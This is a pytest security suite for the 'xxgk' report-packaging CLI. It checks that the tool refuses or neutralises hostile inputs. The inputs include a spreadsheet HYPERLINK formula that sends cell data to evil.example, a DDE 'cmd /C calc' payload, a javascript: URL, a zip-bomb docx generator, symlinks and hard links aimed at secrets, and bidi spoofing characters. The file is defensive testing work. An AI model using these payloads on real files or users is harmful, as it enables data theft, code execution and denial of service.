"""Issue 12: hostile inputs, one class per test, through the CLI where a user would meet them.

Nothing leaks (files outside ``reports/``), nothing runs (formulas in spreadsheets; scripts are in
``test_security_browser.py``), nothing is wiped (folders the tool does not own), one bad report
never stops the others (budgets, a killed worker), nothing is lost or replaced (ids, duplicates,
encodings, the manifest)."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from xxgk import readers as readers_module
from xxgk.folders import locked, staging_for
from xxgk.package import collect as collect_module
from xxgk.package.collect import collect, report_id, report_ids
from xxgk.package.write import write_atomically
from xxgk.readers import decode, read_bytes, read_path
from xxgk.safe import html_text, link_url, page_title, plot_label, sheet_cell
from xxgk.site.data import read_csv

from .conftest import SEEDS
from .factory import tab_report

GOOD = tab_report(agency="良好局").encode()


def _run(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "xxgk.cli", *args], capture_output=True, text=True, cwd=cwd)


def _package(root: Path, *extra: str) -> subprocess.CompletedProcess:
    return _run("package", "--quiet", "--reports", str(root / "reports"), "--out", str(root / "datapackage"), *extra,
                cwd=root)


def _rows(root: Path) -> dict[str, dict]:
    return {r["source_file"]: r for r in read_csv(root / "datapackage" / "data" / "reports.csv")}


def _codes(root: Path) -> dict[str, set[str]]:
    out: dict[str, set[str]] = {}
    for f in read_csv(root / "datapackage" / "data" / "findings.csv"):
        out.setdefault(f["report_id"], set()).add(f["code"])
    return out


def _all_package_bytes(root: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted((root / "datapackage").rglob("*")) if p.is_file())


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "reports").mkdir()
    (tmp_path / "reports" / "good.txt").write_bytes(GOOD)
    return tmp_path


# --- files from outside reports/ are never read --------------------------------------------------------------

def test_links_dotfiles_and_special_files_are_listed_as_refused_and_never_read(root):
    secret = root / "secret.txt"
    secret.write_text("TOKEN-abc123 must never be published", encoding="utf-8")
    reports = root / "reports"
    (reports / "link_to_secret.txt").symlink_to(secret)
    (reports / "dangling.txt").symlink_to(root / "nowhere.txt")
    (reports / "loop.txt").symlink_to(reports / "loop.txt")
    (reports / "linked_folder").symlink_to(root)
    (reports / ".hidden.txt").write_bytes(GOOD)
    (reports / ".git").mkdir()
    (reports / ".git" / "config").write_text("extraheader = AUTHORIZATION: basic TOKEN-abc123", encoding="utf-8")
    os.mkfifo(reports / "pipe.txt")
    result = _package(root)
    assert result.returncode == 0, result.stderr
    rows, codes = _rows(root), _codes(root)
    refused = {"link_to_secret.txt", "dangling.txt", "loop.txt", "linked_folder", ".hidden.txt", ".git", "pipe.txt"}
    assert set(rows) == refused | {"good.txt"}
    for name in refused:
        assert rows[name]["status"] == "failed" and codes[rows[name]["report_id"]] == {"input_refused"}, name
    assert rows["good.txt"]["status"] == "parsed"
    assert b"TOKEN-abc123" not in _all_package_bytes(root)


def test_a_hard_link_to_a_file_outside_reports_is_refused_even_when_made_after_the_listing(root, monkeypatch):
    secret = root / "secret.txt"
    secret.write_bytes(tab_report(agency="密钥局 TOKEN-def456").encode())  # readable as a report: the worst case
    os.link(secret, root / "reports" / "hard.txt")
    assert _package(root).returncode == 0
    row = _rows(root)["hard.txt"]
    assert row["status"] == "failed" and _codes(root)[row["report_id"]] == {"input_refused"}
    assert b"TOKEN-def456" not in _all_package_bytes(root)
    # a file swapped for a hard link between the listing and the read is refused by the reader too
    assert read_path("hard.txt", nofollow=True, beneath=root / "reports").findings[0].code == "input_refused"


@pytest.mark.parametrize("name", ["CHANGELOG.md", "VERSION"])
def test_a_hard_linked_changelog_or_version_is_refused_and_never_published_or_quoted(root, name):
    secret = root / "secret.txt"
    secret.write_text("db_password=hunter2\n", encoding="utf-8")
    os.link(secret, root / "reports" / name)
    result = _package(root)
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert name in result.stderr and "hard link" in result.stderr
    assert "hunter2" not in result.stderr + result.stdout  # a CI log is public
    assert b"hunter2" not in _all_package_bytes(root)


def test_an_unreadable_or_gbk_named_file_is_listed_with_its_reason(root):
    reports = root / "reports"
    gbk_name = "国标文件名.txt".encode("gbk")
    with open(os.path.join(os.fsencode(reports), gbk_name), "wb") as handle:
        handle.write(tab_report(agency="文件名局").encode())
    result = _package(root)
    assert result.returncode == 0, result.stderr
    rows, codes = _rows(root), _codes(root)
    assert rows["国标文件名.txt"]["agency"] == "文件名局"
    assert "file_name_repaired" in codes[rows["国标文件名.txt"]["report_id"]]


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads a chmod-000 file anyway")
def test_an_unreadable_file_is_failed_with_its_reason(root):
    locked_file = root / "reports" / "locked.txt"
    locked_file.write_bytes(GOOD)
    locked_file.chmod(0)
    try:
        result = _package(root)
    finally:
        locked_file.chmod(0o644)
    assert result.returncode == 0 and "Traceback" not in result.stderr
    row = _rows(root)["locked.txt"]
    assert row["status"] == "failed" and "file_unreadable" in _codes(root)[row["report_id"]]


def test_a_manifest_row_in_nfd_applies_to_the_file_named_in_nfc(root):
    import unicodedata

    (root / "reports" / "café.txt").write_bytes(tab_report(agency="咖啡局").encode())
    (root / "reports" / "sources.csv").write_text(
        f"file,agency,year\n{unicodedata.normalize('NFD', 'café.txt')},清单咖啡局,2024\n", encoding="utf-8")
    assert _package(root).returncode == 0
    assert _rows(root)["café.txt"]["agency"] == "清单咖啡局"


# --- folders the tool does not own are never deleted ---------------------------------------------------------

def test_site_at_a_folder_of_user_files_is_refused_and_the_files_stay(root):
    notes = root / "notes"
    notes.mkdir()
    (notes / "diary.md").write_text("mine", encoding="utf-8")
    result = _run("build", "--quiet", "--reports", str(root / "reports"), "--out", str(root / "datapackage"),
                  "--site", str(notes), cwd=root)
    assert result.returncode == 2
    assert "refused" in result.stderr and "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert (notes / "diary.md").read_text(encoding="utf-8") == "mine"
    assert not (root / "datapackage").exists()  # refused before any work


@pytest.mark.parametrize("out", ["reports", ".", "notes"])
def test_out_at_reports_a_parent_of_it_or_user_files_is_refused(root, out):
    (root / "notes").mkdir()
    (root / "notes" / "a.txt").write_text("mine", encoding="utf-8")
    result = _run("package", "--quiet", "--reports", "reports", "--out", out, cwd=root)
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert (root / "reports" / "good.txt").read_bytes() == GOOD
    assert (root / "notes" / "a.txt").read_text(encoding="utf-8") == "mine"


def test_a_typo_in_reports_keeps_the_good_package(root):
    assert _package(root).returncode == 0
    before = (root / "datapackage" / "data" / "reports.csv").read_bytes()
    result = _run("package", "--quiet", "--reports", "reprots", "--out", "datapackage", cwd=root)
    assert result.returncode == 2 and "reprots" in result.stderr and "Traceback" not in result.stderr
    assert (root / "datapackage" / "data" / "reports.csv").read_bytes() == before


def test_a_second_build_in_the_same_folder_refuses_while_the_first_holds_the_lock(root):
    with locked(root / "datapackage"):
        result = _package(root)
    assert result.returncode == 2 and "another xxgk" in result.stderr
    assert not (root / "datapackage").exists()


def test_a_package_that_fails_its_check_never_replaces_the_last_good_one(tmp_path):
    out = tmp_path / "datapackage"
    assert write_atomically({"a.txt": b"good"}, out) == []
    assert write_atomically({"a.txt": b"bad"}, out, check=lambda staging: ["invalid"]) == ["invalid"]
    assert (out / "a.txt").read_bytes() == b"good"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["datapackage"]


def test_a_swap_cut_between_its_two_renames_is_mended_by_the_next_build(tmp_path):
    out = tmp_path / "datapackage"
    assert write_atomically({"a.txt": b"v1"}, out) == []
    os.replace(out, tmp_path / ".datapackage.old-99999")  # killed after the first rename
    staging_for(tmp_path / "datapackage").rename(tmp_path / ".datapackage.new-99998")  # a staging folder left over
    assert write_atomically({"a.txt": b"v2"}, out) == []
    assert (out / "a.txt").read_bytes() == b"v2"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["datapackage"]


def test_folders_named_like_a_cut_swap_but_not_xxgks_are_neither_restored_nor_deleted(tmp_path):
    planted = tmp_path / ".datapackage.old-1"  # someone's folder, no marker: not a package moved aside
    planted.mkdir()
    (planted / "thesis.docx").write_bytes(b"years of work")
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "notes.txt").write_text("keep", encoding="utf-8")
    (tmp_path / ".datapackage.new-2").symlink_to(mine)  # a link named like a staging folder
    out = tmp_path / "datapackage"
    assert write_atomically({"a.txt": b"v1"}, out) == []
    assert (out / "a.txt").read_bytes() == b"v1" and not (out / "thesis.docx").exists()
    assert (planted / "thesis.docx").read_bytes() == b"years of work"
    assert (mine / "notes.txt").read_text(encoding="utf-8") == "keep"


def test_errors_are_one_line_and_never_a_traceback(root):
    (root / "reports" / "VERSION").write_bytes("1.2.0\n".encode("utf-16"))  # Excel/Notepad on Windows
    assert _package(root).returncode == 0
    assert read_csv(root / "datapackage" / "data" / "reports.csv")  # built
    assert '"version": "1.2.0"' in (root / "datapackage" / "datapackage.json").read_text(encoding="utf-8")
    (root / "reports" / "VERSION").write_text("not a version", encoding="utf-8")
    for result in (_package(root), _package(root, "--workers", "0"),
                   _run("package", "--reports", "reports", "--out", "reports/good.txt", cwd=root)):
        assert result.returncode != 0
        assert "Traceback" not in result.stderr
        lines = result.stderr.strip().splitlines()  # argparse prints its usage above the one error line
        assert len([line for line in lines if "error" in line or "错误" in line or "xxgk:" in line]) == 1, lines
        assert not lines[-1].startswith(" "), lines


# --- formulas never run when the data is opened in a spreadsheet ----------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_formula_looking_values_are_published_as_text_in_csv_and_xlsx(root):
    (root / "reports" / "@SUM(1+1).txt").write_bytes(tab_report(agency="公式局").encode())
    (root / "reports" / "sources.csv").write_text(
        "file,agency,year,url,retrieved_at,notes\n"
        f'good.txt,良好局,2024,,+cmd|\' /C calc\'!A0,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n',
        encoding="utf-8")
    assert _package(root).returncode == 0
    rows = _rows(root)
    assert rows["good.txt"]["notes"] == "'" + FORMULA
    assert not rows["good.txt"]["retrieved_at"]  # no date: a finding and missing (manifest_value_invalid)
    assert "'@SUM(1+1).txt" in rows
    for path in (root / "datapackage").rglob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            for value in row:
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (path.name, value)
                assert not (value.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", value)), (path.name, value)
    with zipfile.ZipFile(root / "datapackage" / "xxgk.xlsx") as book:
        sheets = {n: book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/")}
    assert not any("<f>" in xml or "<f " in xml for xml in sheets.values())
    strings = "".join(sheets.values())  # inline strings: the workbook is written row by row (constant memory)
    assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings
    assert "'@SUM(1+1).txt" in strings


# --- one bad report never stops the others ---------------------------------------------------------------------

def test_an_impossible_date_is_a_finding_and_left_missing(root):
    (root / "reports" / "feb30.txt").write_bytes(tab_report(agency="闰日局", published="2025年2月30日").encode())
    result = _package(root)
    assert result.returncode == 0 and "Traceback" not in result.stderr
    row = _rows(root)["feb30.txt"]
    assert row["published_date"] is None
    assert "date_invalid" in _codes(root)[row["report_id"]]


def _docx_bomb() -> bytes:
    """A valid-looking .docx whose document.xml inflates to 300 MB of spaces (about 300 KB packed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            block = b" " * 2**20
            for _ in range(300):
                member.write(block)
    return buffer.getvalue()


def _ruled_grid_pdf(n: int = 200) -> bytes:
    """One page with an n×n grid of ruling lines (the table finder's worst case) and a line of text."""
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, pagesize=(600, 800))
    page.drawString(20, 780, "grid")
    for i in range(n + 1):
        page.line(20 + i * 2.8, 40, 20 + i * 2.8, 600)
        page.line(20, 40 + i * 2.8, 580, 40 + i * 2.8)
    page.save()
    return buffer.getvalue()


def test_a_docx_bomb_and_a_ruled_grid_pdf_are_stopped_within_budget_and_the_rest_is_packaged(root):
    (root / "reports" / "bomb.docx").write_bytes(_docx_bomb())
    (root / "reports" / "grid.pdf").write_bytes(_ruled_grid_pdf())
    result = _package(root)
    assert result.returncode == 0, result.stderr
    rows, codes = _rows(root), _codes(root)
    for name in ("bomb.docx", "grid.pdf"):
        assert rows[name]["status"] == "failed"
        assert "over_budget" in codes[rows[name]["report_id"]], codes[rows[name]["report_id"]]
    assert rows["good.txt"]["status"] == "parsed"


def test_budgets_are_checked_while_reading():
    assert read_bytes(_docx_bomb(), ".docx").findings[0].code == "over_budget"
    assert read_bytes(_ruled_grid_pdf(), ".pdf").findings[0].code == "over_budget"
    def deep(levels: int) -> bytes:
        return ("<html><body>" + "<div>" * levels + "某局2024年政府信息公开工作年度报告" + "</div>" * levels
                + "</body></html>").encode()

    assert "某局2024年" in read_bytes(deep(1000), ".html").text  # 254+ levels used to give "no text"
    assert read_bytes(deep(5000), ".html").findings[0].code == "over_budget"  # the real cause, named


REAL_PARSE_ONE = collect_module.parse_one


def parse_or_die(folder, path, published=None):
    """``parse_one``, but the worker dies on ``die.txt`` as if the kernel's OOM killer took it."""
    if path == "die.txt":
        os.kill(os.getpid(), 9)
    return REAL_PARSE_ONE(folder, path, published)


def test_a_killed_worker_fails_its_file_and_the_build_goes_on(root, monkeypatch):
    (root / "reports" / "die.txt").write_bytes(tab_report(agency="被杀局").encode())
    (root / "reports" / "after.txt").write_bytes(tab_report(agency="之后局").encode())
    monkeypatch.setattr(collect_module, "parse_one", parse_or_die)
    reports = {r.source_file: r for r in collect(root / "reports", workers=2)}
    assert reports["die.txt"].status == "failed"
    assert [f.code for f in reports["die.txt"].findings] == ["worker_died"]
    assert reports["good.txt"].status == "parsed" and reports["after.txt"].status == "parsed"


def parse_slowly_or_greedily(folder, path, published=None):
    """``parse_one``, but ``slow.txt`` never ends and ``greedy.txt`` wants 4 GB of memory."""
    if path == "slow.txt":
        time.sleep(600)
    if path == "greedy.txt":
        bytearray(4 * 2**30)
    return REAL_PARSE_ONE(folder, path, published)


def test_wall_time_and_memory_budgets_fail_only_their_file(root, monkeypatch):
    from xxgk.readers import Budget

    for name in ("slow.txt", "greedy.txt"):
        (root / "reports" / name).write_bytes(tab_report(agency="超限局").encode())
    # 10 s, not 3: a worker's first file also pays the parser's imports, and at a load of 10–15 good.txt went over 3 s
    # (CI, flaky); slow.txt never ends, so the test still proves the bound whatever its figure
    monkeypatch.setattr(collect_module, "BUDGET", Budget(seconds=10, memory=2**30))
    # slow.txt spends no CPU, so the wall backstop ends it: at 1 × the budget here (10 s of wall time, the bound this
    # test had before the budget was CPU time), not the product's 4 ×, which only made the test wait 30 s longer
    monkeypatch.setattr(readers_module, "WALL_PER_CPU", 1)
    monkeypatch.setattr(collect_module, "parse_one", parse_slowly_or_greedily)
    reports = {r.source_file: r for r in collect(root / "reports", workers=2)}
    for name, reason in (("slow.txt", "秒"), ("greedy.txt", "内存")):
        assert reports[name].status == "failed"
        findings = reports[name].findings
        assert [f.code for f in findings] == ["over_budget"] and reason in findings[0].message
    assert reports["good.txt"].status == "parsed"


# --- nothing lost or replaced ----------------------------------------------------------------------------------

def _colliding_names() -> tuple[str, str]:
    """Two names with the same 40-character slug and the same first 6 hex digits of SHA-1."""
    seen: dict[str, str] = {}
    for i in range(200_000):
        name = f"{'long-agency-name-' * 3}{i}.txt"
        rid = report_id(name)
        if rid in seen:
            return seen[rid], name
        seen[rid] = name
    raise AssertionError("no collision found")


def test_colliding_report_ids_are_detected_and_both_sources_kept(root):
    a, b = _colliding_names()
    assert report_id(a) == report_id(b)  # the collision is real
    ids = report_ids([a, b, "good.txt"])
    assert len(set(ids.values())) == 3 and ids["good.txt"] == report_id("good.txt")
    (root / "reports" / a).write_bytes(tab_report(agency="甲局").encode())
    (root / "reports" / b).write_bytes(tab_report(agency="乙局").encode())
    assert _package(root).returncode == 0
    rows = _rows(root)
    assert rows[a]["report_id"] != rows[b]["report_id"]
    sources = {p.name: p.read_text(encoding="utf-8") for p in (root / "datapackage" / "sources").iterdir()}
    assert "甲局" in sources[rows[a]["report_id"] + ".txt"] and "乙局" in sources[rows[b]["report_id"] + ".txt"]


def test_two_names_differing_only_in_unicode_normalisation_are_both_kept(root):
    import unicodedata

    for form, agency in (("NFC", "组合局"), ("NFD", "分解局")):
        (root / "reports" / unicodedata.normalize(form, "café.txt")).write_bytes(tab_report(agency=agency).encode())
    assert _package(root).returncode == 0
    rows = read_csv(root / "datapackage" / "data" / "reports.csv")
    assert sorted(r["agency"] for r in rows) == sorted(["组合局", "分解局", "良好局"])
    assert len({r["report_id"] for r in rows}) == 3


def test_byte_identical_files_without_a_title_are_duplicates(root):
    text = "一、总体情况\n没有标题的报告。\n".encode()
    (root / "reports" / "copy1.txt").write_bytes(text)
    (root / "reports" / "copy2.txt").write_bytes(text)
    assert _package(root).returncode == 0
    rows, codes = _rows(root), _codes(root)
    assert "duplicate_report" in codes[rows["copy1.txt"]["report_id"]]
    assert "duplicate_report" in codes[rows["copy2.txt"]["report_id"]]
    assert "duplicate_report" not in codes.get(rows["good.txt"]["report_id"], set())


def _traditional(text: str) -> str:
    from opencc import OpenCC

    return OpenCC("s2t").convert(text)


@pytest.mark.parametrize("name, data, agency", [
    ("big5", _traditional(tab_report(agency="臺北市政府資訊局")).encode("big5"), "台北市政府资讯局"),
    ("nul_then_utf8", b"\x00" * 2048 + tab_report(agency="空字符填充局").encode(), "空字符填充局"),
    ("utf16_padded", tab_report(agency="双字节填充局").encode("utf-16-le") + b"\x00" * 4096, "双字节填充局"),
    ("mixed", tab_report(agency="混合编码局").encode()[:60] + "\n第二行是国标编码的文字内容。\n".encode("gbk")
     + tab_report(agency="混合编码局").encode()[60:], "混合编码局"),
])
def test_encodings_are_detected_by_what_decodes_cleanly(name, data, agency):
    from xxgk.parser import parse

    source = read_bytes(data, ".txt")
    assert source.ok, (name, source.findings)
    assert parse(source.parse_text).agency == agency, (name, source.encoding, source.text[:80])


def test_a_binary_file_is_still_refused_by_its_cause():
    text, encoding = decode(bytes(range(256)) * 40)
    assert text is None and encoding is None


@pytest.mark.parametrize("encoding", ["gbk", "utf-16"])
def test_the_manifest_is_decoded_like_a_report_checked_and_published(root, encoding):
    (root / "reports" / "second.txt").write_bytes(tab_report(agency="第二局").encode())
    (root / "reports" / "sources.csv").write_bytes((
        "file,agency,year,url,retrieved_at,notes,level\n"
        "good.txt,清单局,2024,https://a.gov.cn/r.html,2025-03-01,复核过,政府\n"
        "second.txt,,10000,javascript:alert(1),,,department\n"
        "./second.txt,别名局,2024,,,,\n"
        "missing.txt,无文件局,2024,,,,\n"
        "good.txt,重复局,2024,,,,\n").encode(encoding))
    assert _package(root).returncode == 0
    rows, codes = _rows(root), _codes(root)
    good, second = rows["good.txt"], rows["second.txt"]
    assert (good["agency"], good["retrieved_at"], good["notes"], good["source_url"]) == (
        "清单局", "2025-03-01", "复核过", "https://a.gov.cn/r.html")
    # 政府 is no level: the manifest's value is dropped (a finding) and the level comes from the name (清单局)
    assert good["level"] == "department" and "manifest_value_invalid" in codes[good["report_id"]]
    assert second["year"] == "2024" and second["source_url"] is None and second["level"] == "department"
    assert "manifest_value_invalid" in codes[second["report_id"]]
    manifest_findings = [f for f in read_csv(root / "datapackage" / "data" / "findings.csv")
                         if f["report_id"] == rows["sources.csv"]["report_id"]]
    assert len(manifest_findings) == 3  # ./second.txt, missing.txt, the duplicate good.txt
    assert {f["code"] for f in manifest_findings} == {"manifest_row_unusable"}


def test_a_semicolon_manifest_is_a_finding_not_silence(root):
    (root / "reports" / "sources.csv").write_text("file;agency;year\ngood.txt;清单局;2024\n", encoding="utf-8")
    assert _package(root).returncode == 0
    rows, codes = _rows(root), _codes(root)
    assert rows["good.txt"]["agency"] == "良好局"
    assert codes[rows["sources.csv"]["report_id"]] == {"manifest_row_unusable"}



# --- the sinks, for any string ---------------------------------------------------------------------------------

@given(st.text())
def test_any_string_is_made_safe_for_each_sink(text):
    title = page_title(text)
    assert not set(title) & set("<>&\"'\n\r\x00\x7f\u2028")
    cell = sheet_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r"[+-]\d+(\.\d+)?([eE][+-]?\d+)?",
                                                                                cell)
    url = link_url(text)
    assert url is None or url.lower().startswith(("http://", "https://"))
    assert "<" not in plot_label(text) and "<" not in html_text(text)


@given(st.binary(max_size=3000))
def test_any_bytes_decode_to_text_or_a_reason(data):
    text, encoding = decode(data)
    assert (text is None) == (encoding is None)


def test_a_failed_site_build_leaves_the_old_site_whole(seed_package, tmp_path, monkeypatch):
    from xxgk.folders import MARKER
    from xxgk.site.build import build_site

    package_dir, _, _ = seed_package
    monkeypatch.chdir(tmp_path)
    site = tmp_path / "site"
    site.mkdir()
    (site / MARKER).write_text("", encoding="utf-8")
    (site / "index.html").write_text("the old site", encoding="utf-8")
    (tmp_path / "mkdocs.yml").write_text("site_name: [unclosed\n", encoding="utf-8")  # MkDocs fails
    assert build_site(package_dir, tmp_path / "site_src", site)[0] != 0
    assert (site / "index.html").read_text(encoding="utf-8") == "the old site"
    assert not list(tmp_path.glob(".site.*"))


def test_build_outside_the_project_folder_is_refused_before_writing_anything(tmp_path):
    """``xxgk build`` needs the project's mkdocs.yml: elsewhere it says so in one line and writes nothing."""
    result = _run("build", "--reports", str(SEEDS), cwd=tmp_path)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and "mkdocs.yml" in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_bidirectional_overrides_never_reach_a_name_or_a_title():
    """U+202E and its kin flip how the rest of a line reads (a spoofed name). (Old report URLs have no
    redirect pages any more: a hostile target in the 404 page's map is tested in test_site_size.py.)"""
    from xxgk.metadata import canonical_agency
    from xxgk.safe import html_text, page_title

    for bidi in ("\u202e", "\u202a", "\u2066", "\u200f", "\u061c"):
        assert canonical_agency(f"{bidi}局据数") == "局据数" and bidi not in page_title(f"a{bidi}b")
    assert "\u202e" not in html_text(canonical_agency("格尔木市\u202e数据局"))


def test_thousands_of_apostrophes_and_a_cell_beyond_csvs_default_limit_do_not_stop_the_build(tmp_path):
    """A line of 3,000 apostrophes before ``=1`` (recursion once killed the writer) and a narrative section
    of 200,000 characters (beyond the csv module's 128 KiB field limit) are published like any text."""
    from xxgk.package.build import build_package
    from xxgk.safe import cell_text, sheet_cell
    from xxgk.site.data import Package

    hostile = "'" * 3000 + "=1"
    assert cell_text(sheet_cell(hostile)) == hostile
    seed = (SEEDS / "002_b58105edacdfa4c5.txt").read_text(encoding="utf-8")
    folder = tmp_path / "reports"
    folder.mkdir()
    long_line = "本机关" * 70_000
    (folder / "a.txt").write_text(seed.replace("一、总体情况", f"一、总体情况\n{hostile}\n{long_line}", 1),
                                  encoding="utf-8")
    _, errors = build_package(folder, tmp_path / "out", workers=1)
    assert errors == []
    sections = Package.load(tmp_path / "out").tables["sections"]
    assert any(long_line in (row["text"] or "") and hostile in (row["text"] or "") for row in sections)
